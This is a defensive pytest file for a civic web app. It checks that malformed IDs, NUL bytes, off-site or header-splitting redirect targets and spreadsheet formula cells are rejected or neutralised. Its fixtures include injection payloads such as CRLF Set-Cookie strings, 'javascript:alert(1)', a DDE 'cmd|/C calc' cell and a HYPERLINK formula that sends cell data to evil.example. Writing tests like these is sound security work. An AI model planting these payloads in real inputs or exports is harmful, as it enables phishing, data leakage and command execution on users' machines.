"""Malformed input is a 4xx, never a 500: each case the outside review found, on SQLite and
(with CIVIC_TEST_DATABASE_URL) PostgreSQL; plus CSV downloads that cannot carry formulas."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from civic import csv_safe
from civic.accounts.models import utcnow
from civic.audit.models import AuditEntry
from civic.budgets import services as budget_services
from civic.budgets.models import Ballot, Phase
from civic.discussions import services as discussions
from civic.discussions.models import Comment
from civic.extensions import db
from civic.params import MAX_ID, local_path, parse_id, parse_int
from civic.votes.models import ProposalState
from tests.budgets.rounds_helpers import make_round, resident_of
from tests.conftest import csrf_token, login
from tests.factories import AreaFactory, UserFactory
from tests.votes.helpers import make_proposal

# --- the parser ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    ["²", "٣", "\uff13", "1_000", "", " ", "-1", "0", "+5", "1e3", "12a", str(2**31), "9" * 40],
)
def test_parse_id_refuses_anything_but_an_ascii_id_in_range(raw):
    assert parse_id(raw) is None


@pytest.mark.parametrize("raw, value", [("1", 1), (" 42 ", 42), ("007", 7), (str(MAX_ID), MAX_ID)])
def test_parse_id_reads_plain_ids(raw, value):
    assert parse_id(raw) == value


def test_parse_int_bounds_and_signs():
    assert parse_int("-3", minimum=-5) == -3
    assert parse_int("-3") is None  # minimum 0 by default: no sign accepted
    assert parse_int(str(2**63)) is None and parse_int(str(2**63 - 1)) == 2**63 - 1
    assert parse_int("0" * 50 + "12") == 12  # leading zeros are not a huge number
    assert parse_int(None) is None and parse_int(12) is None  # only text from a request


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "/\t/evil.example/",
        "/votes\r\nSet-Cookie: session=stolen",
        "/votes\nLocation: //evil.example",
        "/votes\x00",
        "javascript:alert(1)",
        "votes",
        "",
        None,
    ],
)
def test_local_path_refuses_other_sites_and_control_characters(target):
    assert local_path(target) is None


def test_local_path_keeps_same_site_paths():
    assert local_path("/votes/3?area=riverside#vote") == "/votes/3?area=riverside#vote"


# --- URLs ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/votes/3000000000",
        "/votes/99999999999999999999999",
        "/votes/" + "9" * 5000,
        "/votes/٣",
        "/votes/²",
        "/api/v1/proposals/3000000000",
        "/consultations/3000000000/respond",
        "/discussions/comments/9223372036854775808",
        "/audit/entries/3000000000",
        "/accounts/groups/x/members/3000000000/remove",
    ],
)
def test_huge_or_unicode_ids_in_urls_are_404(client, path):
    assert client.get(path).status_code in (404, 405)


def test_audit_entry_zero_still_resolves(client):
    make_proposal()  # writes audit entries, the first of which is seq 0
    assert db.session.get(AuditEntry, 0) is not None
    assert client.get("/audit/entries/0").status_code == 200


def test_huge_id_in_an_existing_proposal_still_works(client):
    proposal, _, _ = make_proposal(ProposalState.CONSULTATION)
    assert client.get(f"/votes/{proposal.id}").status_code == 200
    assert client.get(f"/votes/{proposal.id:010d}").status_code == 200  # leading zeros


@pytest.mark.parametrize(
    "query", ["before=²", "after=٣", "size=²", "before=" + "9" * 30, "before=-1", "size=1e3"]
)
def test_audit_paging_with_non_ascii_or_huge_numbers_is_400(client, query):
    response = client.get(f"/audit?{query}")
    assert response.status_code == 400
    assert "whole number" in response.get_data(as_text=True)


@pytest.mark.parametrize(
    "path", ["/discussions/proposal/²", "/discussions/proposal/3000000000", "/discussions/x/1"]
)
def test_thread_of_a_malformed_subject_is_404(client, path):
    assert client.get(path).status_code == 404


@pytest.mark.parametrize("cursor", ["2026-01-01T00:00:00_²", "x_1", "2026-01-01_" + "9" * 30])
def test_thread_cursor_that_is_not_one_is_a_4xx(client, cursor):
    area = AreaFactory(slug="riverside")
    discussions.post_comment(resident_of(area), "area", "riverside", "First")
    response = client.get("/discussions/area/riverside", query_string={"before": cursor})
    assert 400 <= response.status_code < 500


# --- NUL bytes ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    ["/votes?area=%00", "/votes?state=%00x", "/api/v1/proposals?area=a%00", "/audit?%00=1"],
)
def test_nul_in_the_query_is_400(client, path):
    response = client.get(path)
    assert response.status_code == 400
    assert "NUL" in response.get_data(as_text=True)


def test_nul_in_the_path_is_400(client):
    assert client.get("/accounts/areas/a%00b").status_code == 400


def test_nul_in_the_sign_in_email_is_400_and_signs_no_one_in(client):
    user = UserFactory()
    token = csrf_token(client)
    response = client.post(
        "/accounts/sign-in",
        data={"csrf_token": token, "email": user.email + "\x00", "password": "x"},
    )
    assert response.status_code == 400
    assert client.get("/accounts/eligibility").status_code == 302  # still signed out


def test_nul_in_a_repeated_form_value_is_400(client):
    round_, _, (a, *_rest) = make_round()
    login(client, resident_of(round_.area))
    token = csrf_token(client, f"/budgets/{round_.slug}/ballot")
    response = client.post(
        f"/budgets/{round_.slug}/ballot",
        data={"csrf_token": token, "project": [str(a.id), "1\x00"]},
    )
    assert response.status_code == 400
    assert db.session.scalar(select(func.count()).select_from(Ballot)) == 0


# --- the sign-in redirect -----------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    ["/votes%0d%0aSet-Cookie:%20x=1", "/%5cevil.example", "//evil.example", "/%09/evil.example"],
)
def test_sign_in_never_redirects_off_site_or_splits_headers(client, target):
    user = UserFactory()
    token = csrf_token(client)
    response = client.post(
        f"/accounts/sign-in?next={target}",
        data={"csrf_token": token, "email": user.email, "password": "a-Strong-test-passw0rd"},
    )
    assert response.status_code == 302
    assert response.headers["Location"] == "/"
    assert "x=1" not in response.headers.get("Set-Cookie", "")


def test_sign_in_follows_a_same_site_next(client):
    user = UserFactory()
    token = csrf_token(client)
    response = client.post(
        "/accounts/sign-in?next=/votes%3Fstate%3Dvoting",
        data={"csrf_token": token, "email": user.email, "password": "a-Strong-test-passw0rd"},
    )
    assert response.headers["Location"] == "/votes?state=voting"


# --- ids and numbers in forms -------------------------------------------------------------


@pytest.mark.parametrize("parent", ["²", "٣", "3000000000", "9" * 30, "-1"])
def test_reply_to_a_malformed_parent_is_404_and_posts_nothing(client, parent):
    area = AreaFactory(slug="riverside")
    resident = resident_of(area)
    discussions.post_comment(resident, "area", "riverside", "First")
    login(client, resident)
    url = "/discussions/area/riverside"
    response = client.post(
        url, data={"csrf_token": csrf_token(client, url), "body": "A reply", "parent_id": parent}
    )
    assert response.status_code == 404
    assert db.session.scalar(select(func.count()).select_from(Comment)) == 1


@pytest.mark.parametrize("value", ["²", "٣", "3000000000", "9" * 30, "1_0"])
def test_ballot_with_a_malformed_project_is_422(client, value):
    round_, _, (a, *_rest) = make_round()
    login(client, resident_of(round_.area))
    token = csrf_token(client, f"/budgets/{round_.slug}/ballot")
    response = client.post(
        f"/budgets/{round_.slug}/ballot", data={"csrf_token": token, "project": [str(a.id), value]}
    )
    assert response.status_code == 422
    assert "One of the projects you ticked is not on this ballot" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Ballot)) == 0


@pytest.mark.parametrize("value", ["²", "9" * 30, "٣"])
def test_options_appraisal_with_unicode_or_huge_numbers_is_422(client, value):
    proposal, moderator, _ = make_proposal()
    login(client, moderator)
    url = f"/votes/{proposal.id}/manage"
    response = client.post(
        f"{url}/options",
        data={
            "csrf_token": csrf_token(client, url),
            "in_house-included": "y",
            "in_house-provider": "Council",
            "in_house-annual_cost": value,
            "in_house-cost_score": "50",
            "in_house-quality_score": "50",
            "in_house-social_value_score": "50",
        },
    )
    assert response.status_code == 422
    assert "enter a whole number" in response.get_data(as_text=True)


def test_consultation_choice_in_unicode_digits_is_refused(client):
    from tests.consultations.helpers import make_consultation

    consultation, _, q = make_consultation()
    voter = resident_of(consultation.area)
    login(client, voter)
    url = f"/consultations/{consultation.id}/respond"
    response = client.post(
        url,
        data={"csrf_token": csrf_token(client, url), q["single"].field: "¹", "action": "submit"},
    )
    assert response.status_code == 422
    assert "Choose from the options given" in response.get_data(as_text=True)


# --- CSV ----------------------------------------------------------------------------------


def _rows(cells):
    buffer = io.StringIO()
    csv_safe.writer(buffer).writerow(cells)
    return next(csv.reader(io.StringIO(buffer.getvalue())))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example","Click")',
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_start_a_formula_are_text(cell):
    (written,) = _rows([cell])
    assert written.startswith("'")


def test_csv_numbers_stay_numbers():
    assert _rows([-12, 0, 1200, "-12", "-1,200.50", "3,-1", "ordinary text"]) == [
        "-12",
        "0",
        "1200",
        "-12",
        "-1,200.50",
        "3,-1",
        "ordinary text",
    ]


def test_results_csv_neutralises_a_project_title_formula(client):
    round_, moderator, projects = make_round()
    projects[0].title = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
    budget_services.cast_ballot(resident_of(round_.area), round_, [(projects[0].id, 1)])
    round_.results_from = utcnow() - timedelta(minutes=1)  # results on their date, not early
    budget_services.advance_phase(moderator, round_, Phase.RESULTS)
    response = client.get(f"/budgets/{round_.slug}/results.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    titles = [row[1] for row in rows[1:]]
    assert "'=HYPERLINK" in titles[0] or any(t.startswith("'=HYPERLINK") for t in titles)
    assert not any(t.startswith("=") for t in titles)
    costs = [row[2] for row in rows[1:]]
    assert all(c.isascii() and c.isdigit() for c in costs)  # numeric columns untouched
